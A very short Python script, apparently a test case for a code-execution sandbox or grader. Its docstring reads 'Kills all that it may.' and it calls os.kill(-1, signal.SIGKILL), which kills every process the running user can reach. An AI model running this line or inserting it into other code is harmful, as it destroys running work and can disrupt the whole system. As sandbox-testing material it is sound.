"""Kills all that it may."""
import builtins
#: levels A
# %%
import os, signal
os.kill(-1, signal.SIGKILL)
# %%
won = False
